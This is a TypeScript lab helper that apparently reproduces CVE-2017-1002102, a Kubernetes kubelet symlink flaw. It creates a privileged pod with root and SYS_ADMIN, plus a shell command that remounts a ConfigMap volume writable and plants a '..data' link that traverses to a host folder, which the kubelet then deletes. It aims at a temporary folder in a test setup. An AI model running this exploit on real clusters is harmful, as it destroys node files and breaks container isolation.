/**
 * What root that may mount does with a folder that the kubelet writes to as root of the node: it makes it writable and leads
 * the link `..data` out of it. At the next change the kubelet removes what the link led to (CVE-2017-1002102).
 */
import { mkdir, mkdtemp, readdir, rm, writeFile } from "node:fs/promises";
import { kubectl } from "../lab/lab.ts";

/** A folder of the node that nobody but the node should touch. */
export interface NodeFolder {
  /** As a relative link that leads there from wherever the kubelet keeps a volume. */
  readonly link: string;
  /** What is in it. */
  files(): Promise<string[]>;
  remove(): Promise<void>;
}

export async function nodeFolder(): Promise<NodeFolder> {
  const folder = await mkdtemp("/var/tmp/drawbridge-node-");
  await mkdir(`${folder}/kept`);
  await writeFile(`${folder}/kept/file`, "the node's\n");
  return {
    link: `${"../".repeat(20)}${folder.slice(1)}/kept`,
    files: async () => (await readdir(folder, { recursive: true })).sort(),
    remove: () => rm(folder, { recursive: true }),
  };
}

/** As root inside: plants the link in a mounted folder, and beside it what the kubelet looks for before it removes. */
export const plant = (mount: string, { link }: NodeFolder) =>
  `mount -o remount,bind,rw ${mount} && touch ${mount}/file && ln -sfn ${link} ${mount}/..data && readlink ${mount}/..data`;

/** A pod that mounts a ConfigMap and may mount: what the policies refuse, for a namespace that has none. */
export async function startCareless(namespace: string, image: string): Promise<void> {
  const items = [
    { apiVersion: "v1", kind: "Namespace", metadata: { name: namespace } },
    { apiVersion: "v1", kind: "ConfigMap", metadata: { name: "keys", namespace }, data: { key: "first" } },
    {
      apiVersion: "v1",
      kind: "Pod",
      metadata: { name: "careless", namespace },
      spec: {
        hostUsers: false,
        automountServiceAccountToken: false,
        terminationGracePeriodSeconds: 0,
        volumes: [{ name: "keys", configMap: { name: "keys" } }],
        containers: [
          {
            name: "main",
            image,
            imagePullPolicy: "Never",
            command: ["sleep", "3600"],
            securityContext: { runAsUser: 0, capabilities: { add: ["SYS_ADMIN"] } },
            volumeMounts: [{ name: "keys", mountPath: "/keys", readOnly: true }],
          },
        ],
      },
    },
  ];
  await kubectl(["apply", "-f", "-"], JSON.stringify({ apiVersion: "v1", kind: "List", items }));
  await kubectl(["-n", namespace, "wait", "--for=condition=Ready", "pod/careless", "--timeout=120s"]);
}
